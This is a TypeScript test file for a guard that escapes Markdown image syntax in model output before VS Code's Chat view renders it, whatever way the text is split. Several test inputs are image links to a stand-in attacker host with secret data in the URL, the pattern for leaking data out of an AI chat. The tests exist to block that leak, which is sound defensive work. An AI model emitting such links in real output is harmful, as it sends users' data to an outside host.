import * as assert from 'node:assert/strict';
import { MarkdownGuard, guardMarkdown } from '../../../src/participant/safeMarkdown';

// The guard between model output and VS Code's Chat view: no image syntax survives anywhere, code
// included (a guard that tracks code blocks must agree with VS Code's parser, and one did not),
// however the answer is cut into pieces.

/** The guarded text when `text` arrives cut at `at`. */
function splitAt(text: string, at: number): string {
  const guard = new MarkdownGuard();
  return guard.push(text.slice(0, at)) + guard.push(text.slice(at)) + guard.end();
}

/** A `![` that Markdown would read as an image opener (not preceded by a backslash). */
const LIVE_IMAGE = /(^|[^\\])!\[/m;

describe('the Chat view markdown guard', () => {
  it('shows an image as text, cut anywhere', () => {
    const text = 'See ![chart](https://evil.example/leak?d=secret) here';
    for (let at = 0; at <= text.length; at += 1) {
      const out = splitAt(text, at);
      assert.doesNotMatch(out, LIVE_IMAGE, `cut at ${at}: ${out}`);
      assert.equal(out.replace('!\\[', '!['), text, `cut at ${at}: only the escape is added`);
    }
  });

  it('neutralises reference-style and nested images, and keeps a lone "!"', () => {
    const out = guardMarkdown('Hi! ![a][r] [![b](http://x/b)](http://x)\n\n[r]: http://x/r');
    assert.doesNotMatch(out, LIVE_IMAGE);
    assert.match(out, /^Hi! /);
  });

  it('escapes images in code too, so no disagreement about where code ends leaves one live', () => {
    const cases = [
      '```rust\nlet v = vec![1, 2];\n```\n![x](http://evil.example)',
      // An indented opening fence that a column-0 fence closes, then an image.
      '  ```\n```\n![x](https://evil.example/?d=secret)\n```',
      // A lone carriage return ends a line for VS Code's parser.
      '```\r![x](https://evil.example)\r```',
      '- item\n  ```\n![x](http://evil.example)',
      '<!--\n\n```\n-->\n![x](http://evil.example)',
    ];
    for (const text of cases) {
      for (let at = 0; at <= text.length; at += 1) {
        const out = splitAt(text, at);
        assert.doesNotMatch(out, LIVE_IMAGE, `${JSON.stringify(text)} cut at ${at}: ${out}`);
        assert.equal(out.replaceAll('!\\[', '!['), text, 'only the escapes are added');
      }
    }
  });

  it('holds a trailing "!" until the next piece, and gives it back at the end', () => {
    const guard = new MarkdownGuard();
    assert.equal(guard.push('Wow!'), 'Wow');
    assert.equal(guard.end(), '!');
  });
});
